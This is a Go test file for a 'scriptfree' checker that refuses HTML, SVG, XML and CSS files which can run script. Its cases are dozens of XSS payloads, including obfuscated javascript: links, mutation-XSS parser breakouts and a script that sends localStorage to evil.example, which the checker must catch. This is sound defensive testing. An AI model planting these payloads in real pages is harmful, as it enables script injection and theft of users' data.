package scriptfree

import (
	"strings"
	"testing"
)

// TestCheck runs the check on hostile files, each of which must be
// refused at the place of what runs, and on plain files, which must pass.
func TestCheck(t *testing.T) {
	tests := []struct {
		name, file, src string
		want            []string // each must be a line of the errors; none for a plain file
	}{
		// HTML that runs script.
		{"script element", "a.html", "<p>Hi</p>\n<script>fetch('//evil.example/'+JSON.stringify(localStorage))</script>",
			[]string{"a.html:2:1: script element: it runs script"}},
		{"script in upper case", "a.htm", "<SCRIPT SRC=x.js></SCRIPT>",
			[]string{"a.htm:1:1: script element: it runs script"}},
		{"event handler", "a.html", "<p>\n  <img src=x alt=\"\" onerror=\"alert(1)\">",
			[]string{"a.html:2:21: onerror attribute: an event handler runs script"}},
		{"event handler without quotes or value", "a.html", "<details open ontoggle=alert(1)><body onpageshow>",
			[]string{"a.html:1:15: ontoggle attribute: an event handler runs script", "a.html:1:39: onpageshow attribute: an event handler runs script"}},
		{"javascript link", "a.html", `<a href="javascript:alert(1)">x</a>`,
			[]string{"a.html:1:4: href attribute: a javascript: address runs script"}},
		{"entity-encoded javascript link", "a.html", `<a href="&#106;ava&#x73;cript&colon;alert(1)">x</a>`,
			[]string{"a.html:1:4: href attribute: a javascript: address runs script"}},
		{"whitespace inside javascript link", "a.html", "<a href=\" \x01java\tscr&#10;ipt:alert(1)\">x</a>",
			[]string{"a.html:1:4: href attribute: a javascript: address runs script"}},
		{"vbscript link in upper case", "a.html", `<A HREF=VBSCRIPT:msgbox(1)>x</A>`,
			[]string{"a.html:1:4: href attribute: a vbscript: address runs script"}},
		{"form action and formaction", "a.html", `<form action="javascript:x()"><button formaction="javascript:y()">Go</button></form>`,
			[]string{"a.html:1:7: action attribute: a javascript: address runs script", "a.html:1:39: formaction attribute: a javascript: address runs script"}},
		{"iframe srcdoc", "a.html", `<iframe srcdoc="&lt;script&gt;parent.x()&lt;/script&gt;"></iframe>`,
			[]string{"a.html:1:1: iframe element: it shows another document, which can run script on the site's origin", "a.html:1:9: srcdoc attribute: it holds a whole HTML document"}},
		{"object and embed", "a.html", "<object data=\"x.html\"></object>\n<embed src=\"x.swf\">",
			[]string{"a.html:1:1: object element: it loads a plugin or another document", "a.html:2:1: embed element: it loads a plugin or another document"}},
		{"meta refresh to javascript", "a.html", `<meta http-equiv="refresh" content="0; URL='javascript:alert(1)'">`,
			[]string{`a.html:1:1: meta element: a refresh may lead only to an http or https address or a page of the site, not "javascript:alert(1)"`}},
		{"meta refresh to a data document", "a.html", `<meta http-equiv=Refresh content="0;data:text/html,<script>x()</script>">`,
			[]string{`a.html:1:1: meta element: a refresh may lead only to an http or https address or a page of the site, not "data:text/html,<script>x()</script>"`}},
		{"meta refresh without a separator", "a.html", "<meta http-equiv=refresh content=\"0 javascript:alert(1)\">",
			[]string{`a.html:1:1: meta element: a refresh may lead only to an http or https address or a page of the site, not "javascript:alert(1)"`}},
		{"base", "a.html", `<base href="https://evil.example/">`,
			[]string{"a.html:1:1: base element: it changes where every relative address in the file leads"}},
		{"data document link", "a.html", `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`,
			[]string{"a.html:1:4: href attribute: a data: address other than an image can hold a document that runs script"}},
		{"css javascript url and expression", "a.html", "<style>\nbody { background: url( \"java\\73 cript:x()\" ) }\n</style>\n<p style=\"width: exp/**/ression(alert(1))\">",
			[]string{"a.html:2:26: CSS with a javascript: address can run script", "a.html:4:4: a CSS expression() runs script in old browsers"}},
		{"html import", "a.html", `<link rel="stylesheet import" href="x.html">`,
			[]string{"a.html:1:1: link element: an HTML import runs the scripts of the document it imports"}},
		{"foreign charset", "a.html", `<meta charset="iso-2022-jp"><p>x</p>`,
			[]string{"a.html:1:1: meta element: the file says it is in iso-2022-jp; it must be UTF-8, the character set it is checked in"}},
		{"utf-16", "a.html", "\xff\xfe<\x00s\x00",
			[]string{"a.html:1:1: the file is in UTF-16; save it as UTF-8, the character set it is checked in"}},
		{"escape character", "a.html", "<p title=\"\x1b$B\">\x1b(B<img src=x onerror=alert(1)>",
			[]string{"a.html:1:11: the file holds an escape character, which can switch a browser to another character set than UTF-8, the one it is checked in"}},
		{"svg in html", "a.html", `<svg><a xlink:href="javascript:x()"><text>x</text></a><foreignObject><p>x</p></foreignObject></svg>`,
			[]string{"a.html:1:9: xlink:href attribute: a javascript: address runs script", "a.html:1:55: foreignobject element: it puts an HTML document inside the SVG"}},
		{"style in svg is not raw text", "a.html", `<svg><style><img src=x onerror=alert(1)></style></svg>`,
			[]string{"a.html:1:24: onerror attribute: an event handler runs script"}},
		{"svg in a select, where newer browsers parse it", "a.html", `<select><svg><style><img src=x onerror=alert(1)></style></svg></select>`,
			[]string{"a.html:1:32: onerror attribute: an event handler runs script"}},
		{"plaintext in svg is not raw text", "a.html", `<select><svg><plaintext><xmp><img src=x onerror=alert(1)>`,
			[]string{"a.html:1:41: onerror attribute: an event handler runs script"}},
		{"raw text nested too deep", "a.html", strings.Repeat("<xmp>", 9) + "<img src=x onerror=alert(1)>",
			[]string{"a.html:1:46: xmp element: its text holds markup nested too deep to check"}},
		{"cdata in svg hides a tag from the tokens", "a.html", `<svg><![CDATA[><x title="]]><img src=x onerror=alert(1)>"]]></svg>`,
			[]string{"a.html: onerror attribute: an event handler runs script (where a browser's HTML parser puts it)"}},
		{"mathml breakout", "a.html", `<math><mtext><mglyph><style><img src=x onerror=alert(1)>`,
			[]string{"a.html:1:40: onerror attribute: an event handler runs script"}},
		{"title in svg is not raw text", "a.html", `<svg><title><img src=x onerror=alert(1)></title></svg>`,
			[]string{"a.html:1:24: onerror attribute: an event handler runs script"}},
		{"noscript ends inside an attribute", "a.html", `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
			[]string{"a.html:1:43: onerror attribute: an event handler runs script"}},
		{"script inside a template", "a.html", `<template><script>alert(1)</script></template>`,
			[]string{"a.html:1:11: script element: it runs script"}},
		{"mathml link", "a.html", `<math href="javascript:alert(1)"><mi>x</mi></math>`,
			[]string{"a.html:1:7: href attribute: a javascript: address runs script"}},

		// SVG and XML that run script.
		{"svg script", "a.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\">\n  <script>alert(1)</script>\n</svg>",
			[]string{"a.svg:2:3: script element: it runs script"}},
		{"svg onload", "a.svg", `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`,
			[]string{"a.svg:1:41: onload attribute: an event handler runs script"}},
		{"svg javascript link in xlink", "a.svg", `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="&#x6A;avascript:alert(1)"><circle r="5"/></a></svg>`,
			[]string{"a.svg:1:87: xlink:href attribute: a javascript: address runs script"}},
		{"svg foreignObject", "a.svg", `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject></svg>`,
			[]string{"a.svg:1:41: foreignObject element: it puts an HTML document inside the SVG", "a.svg:1:56: div element: it is HTML, which runs as HTML inside SVG and XML; publish HTML as an .html file"}},
		{"xhtml namespace in svg", "a.svg", `<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml"><h:img src="x"/></svg>`,
			[]string{"a.svg:1:80: img element: it is HTML, which runs as HTML inside SVG and XML; publish HTML as an .html file"}},
		{"use of another document", "a.svg", `<svg xmlns="http://www.w3.org/2000/svg"><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/><use href="https://evil.example/s.svg#x"/><use href="\\evil.example/s.svg#x"/></svg>`,
			[]string{
				`a.svg:1:46: use element: it may show only an element of this file (#id) or of a file of the site, not "data:image/svg+xml;base64,PHN2Zz4=#x"`,
				`a.svg:1:96: use element: it may show only an element of this file (#id) or of a file of the site, not "https://evil.example/s.svg#x"`,
				`a.svg:1:138: use element: it may show only an element of this file (#id) or of a file of the site, not "\\\\evil.example/s.svg#x"`,
			}},
		{"animation that sets a link", "a.svg", `<svg xmlns="http://www.w3.org/2000/svg"><a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>`,
			[]string{"a.svg:1:44: set element: it animates the href attribute, which can set an address or handler that runs script", "a.svg:1:70: to attribute: a javascript: address runs script"}},
		{"animation of xlink:href with values", "a.svg", `<svg xmlns="http://www.w3.org/2000/svg"><a><animate attributeName="xlink:href" values="#a;javascript:alert(1)"/></a></svg>`,
			[]string{"a.svg:1:44: animate element: it animates the href attribute, which can set an address or handler that runs script"}},
		{"animation that sets a handler", "a.svg", `<svg xmlns="http://www.w3.org/2000/svg"><set attributeName="onmouseover" to="alert(1)"/></svg>`,
			[]string{"a.svg:1:41: set element: it animates the onmouseover attribute, which can set an address or handler that runs script"}},
		{"stylesheet instruction without a type", "a.svg", `<?xml-stylesheet href="a.xsl"?><svg xmlns="http://www.w3.org/2000/svg"/>`,
			[]string{`a.svg:1:1: xml-stylesheet instruction of type "": only text/css is allowed, since an XSLT stylesheet's output can run script`}},
		{"stylesheet instruction with two types", "a.xml", `<?xml-stylesheet type="text/css" type="text/xsl" href="a.xsl"?><doc/>`,
			[]string{`a.xml:1:1: xml-stylesheet instruction of type "": only text/css is allowed, since an XSLT stylesheet's output can run script`}},
		{"prefixed svg script", "a.xml", `<doc xmlns:s="http://www.w3.org/2000/svg"><s:svg><s:script>alert(1)</s:script></s:svg></doc>`,
			[]string{"a.xml:1:50: script element: it runs script"}},
		{"xslt stylesheet", "a.xml", "<?xml version=\"1.0\"?>\n<?xml-stylesheet type=\"text/xsl\" href=\"a.xsl\"?>\n<doc/>",
			[]string{`a.xml:2:1: xml-stylesheet instruction of type "text/xsl": only text/css is allowed, since an XSLT stylesheet's output can run script`}},
		{"entities declared in the doctype", "a.svg", "<!DOCTYPE svg [<!ENTITY x \"&#60;script&#62;alert(1)&#60;/script&#62;\">]>\n<svg xmlns=\"http://www.w3.org/2000/svg\">&x;</svg>",
			[]string{"a.svg:1:1: DOCTYPE with declarations in [ ]: entities declared there can expand to markup the check cannot see; remove them"}},
		{"xhtml script", "a.xhtml", `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>alert(1)</script></body></html>`,
			[]string{"a.xhtml:1:50: script element: it runs script"}},
		{"xml:base", "a.svg", `<svg xmlns="http://www.w3.org/2000/svg" xml:base="https://evil.example/"/>`,
			[]string{"a.svg:1:41: xml:base attribute: it changes where the relative addresses in the file lead"}},
		{"svg handler", "a.svg", `<svg xmlns="http://www.w3.org/2000/svg"><handler type="application/ecmascript">alert(1)</handler></svg>`,
			[]string{"a.svg:1:41: handler element: it runs script"}},
		{"xml that is not well formed", "a.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\">\n<g></svg>",
			[]string{"a.svg:2:10: the file is not well-formed XML, so what a browser makes of it cannot be checked: element <g> closed by </svg>"}},
		{"xml in another encoding", "a.xml", `<?xml version="1.0" encoding="ISO-8859-1"?><a/>`,
			[]string{`a.xml:1:44: the file is not well-formed XML, so what a browser makes of it cannot be checked: xml: encoding "ISO-8859-1" declared but Decoder.CharsetReader is nil`}},
		{"xslt elements", "a.xml", `<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" version="1.0"/>`,
			[]string{"a.xml:1:1: stylesheet element: it is XSLT, whose output a browser shows as a document of the site"}},
		{"css file", "a.css", "p { color: red }\nli { -moz-binding: url(x.xml#b) }\ntd { behavior : url(x.htc) }",
			[]string{"a.css:2:6: -moz-binding attaches script in old browsers", "a.css:3:6: a CSS behavior attaches script in old browsers"}},
		{"css escapes", "a.css", `a { background: u\72l(\6A\61vascript\3A x()) }`,
			[]string{"a.css:1:23: CSS with a javascript: address can run script"}},

		// Plain files.
		{"plain html handout", "a.html", "<!DOCTYPE html>\n<html lang=en><head><meta charset=\"utf-8\"><title>Handout</title>" +
			"<link rel=stylesheet href=\"https://example.edu/a.css\"><style>h1{color:#123}</style>" +
			"<meta http-equiv=refresh content=\"300; url=https://example.edu/\"></head>" +
			"<body class=\"hover:underline\"><h1 title=\"javascript: a language\">Hi</h1><a href=\"next.html#top\">next</a> " +
			"<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"\"><form action=\"https://example.edu/f\"><button>Send</button></form>" +
			"<svg viewBox=\"0 0 2 2\"><use href=\"#c\"/><circle id=c r=1 /></svg></body></html>", nil},
		{"inkscape svg", "a.svg", `<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- Created with Inkscape -->
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
   xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"
   xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" width="10" height="10" sodipodi:docname="chart.svg">
  <metadata><rdf:RDF/></metadata>
  <style>.a { fill: #1f6f5c }</style>
  <defs><linearGradient id="g"><stop offset="0"/></linearGradient></defs>
  <g inkscape:label="Layer 1" inkscape:groupmode="layer">
    <use xlink:href="#r" x="2"/><rect id="r" class="a" width="1" height="1" style="fill:url(#g)"/>
    <image href="photo.png" width="2" height="2"/><image xlink:href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>
    <a href="https://example.edu/"><text>&#169; 2026 &amp; more</text></a>
    <animate attributeName="opacity" from="0" to="1" dur="1s"/>
  </g>
</svg>`, nil},
		{"svg sprite use across files", "a.svg", `<svg xmlns="http://www.w3.org/2000/svg"><use href="icons.svg#star"/></svg>`, nil},
		{"xml with a css stylesheet", "a.xml", "<?xml version=\"1.0\"?>\n<?xml-stylesheet type=\"text/css\" href=\"a.css\"?>\n<report><line>ok</line></report>", nil},
		{"xhtml with entities", "a.xhtml", `<html xmlns="http://www.w3.org/1999/xhtml"><body><p>a&nbsp;b</p><a href="b.xhtml">b</a></body></html>`, nil},
		{"xml with a byte order mark", "a.xml", "\ufeff<report/>", nil},
		{"plain css", "a.css", "/* javascript: is not run from a comment */ p { color: red; background: url(data:image/png;base64,iVBORw0KGgo=) }", nil},
	}
	rejected := 0
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f, why := ByName(tt.file)
			if why != "" {
				t.Fatalf("%s is refused: %s", tt.file, why)
			}
			var got []string
			if err := Check(tt.file, []byte(tt.src), f).Err(); err != nil {
				got = strings.Split(err.Error(), "\n")
			}
			if len(tt.want) == 0 && len(got) > 0 {
				t.Errorf("a plain file was refused:\n%s", strings.Join(got, "\n"))
			}
			for _, want := range tt.want {
				found := false
				for _, line := range got {
					found = found || line == want
				}
				if !found {
					t.Errorf("errors\n%s\nlack\n%s", strings.Join(got, "\n"), want)
				}
			}
		})
		if len(tt.want) > 0 {
			rejected++
		}
	}
	if rejected < 25 || len(tests)-rejected < 5 {
		t.Errorf("%d hostile and %d plain cases; keep at least 25 and 5", rejected, len(tests)-rejected)
	}
}

// TestByName checks which files are refused, checked or published as
// they are, by every extension of their names.
func TestByName(t *testing.T) {
	for name, want := range map[string]Format{
		"a.html": HTML, "A.HTM": HTML, "a.xhtml": XHTML, "a.svg": XML, "a.xml": XML, "feed.rss": XML, "a.css": CSS,
		"a.xsl": Refused, "a.xslt": Refused, "a.svgz": Refused, "a.mhtml": Refused, "a.shtml": Refused,
		"a.js": Refused, "a.php": Refused, "notes.php.txt": Refused, "handout.html.bak": HTML, "handout.html.": HTML,
		"a.pdf": Other, "a.png": Other, "a.txt": Other, "README": Other, "cv.docx": Other, "a.tar.gz": Other,
	} {
		if got, _ := ByName(name); got != want {
			t.Errorf("ByName(%q) = %d, want %d", name, got, want)
		}
	}
	if _, why := ByName("notes.php.txt"); !strings.Contains(why, "every extension of a name counts") {
		t.Errorf("a refusal by an inner extension does not say why: %s", why)
	}
}

// TestSniff checks that a file a browser given no type reads as HTML or
// XML is checked as one.
func TestSniff(t *testing.T) {
	for head, want := range map[string]Format{
		"  <!DOCTYPE html><p>x": HTML, "<html>": HTML, "<script>x()</script>": HTML, "<?xml version=\"1.0\"?><a/>": XML,
		"%PDF-1.7": Other, "Bring your CV.": Other, "\x89PNG\r\n\x1a\n": Other, "{\"a\": 1}": Other,
	} {
		if got := Sniff([]byte(head)); got != want {
			t.Errorf("Sniff(%q) = %d, want %d", head, got, want)
		}
	}
}

// TestReportsAreCapped checks that a file with a handler on every element
// reports a few, and how many more it has.
func TestReportsAreCapped(t *testing.T) {
	src := strings.Repeat("<p onclick=x()>\n", 50)
	err := Check("a.html", []byte(src), HTML).Err()
	lines := strings.Split(err.Error(), "\n")
	if len(lines) != maxReported+1 || lines[maxReported] != "a.html:11:4: and 40 more problems in this file" {
		t.Errorf("got %d lines:\n%s", len(lines), err)
	}
}

// TestWithPolicy checks where the policy goes: after the doctype, html
// and head tags that open the document, and never before the doctype.
func TestWithPolicy(t *testing.T) {
	const meta = `<meta http-equiv="Content-Security-Policy" content="script-src &#39;none&#39;">`
	for src, want := range map[string]string{
		"<!DOCTYPE html>\n<html lang=en>\n<head><title>x</title>": "<!DOCTYPE html>\n<html lang=en>\n<head>" + meta + "<title>x</title>",
		"<!-- made by hand --><!doctype html><p>x":                "<!-- made by hand --><!doctype html>" + meta + "<p>x",
		"\ufeff<html><body>x":                                     "\ufeff<html>" + meta + "<body>x",
		"<p>no doctype":                                           meta + "<p>no doctype",
		"text first<!doctype html>":                               meta + "text first<!doctype html>",
		"":                                                        meta,
	} {
		if got := string(WithPolicy([]byte(src), "script-src 'none'")); got != want {
			t.Errorf("WithPolicy(%q)\n got %q\nwant %q", src, got, want)
		}
	}
}
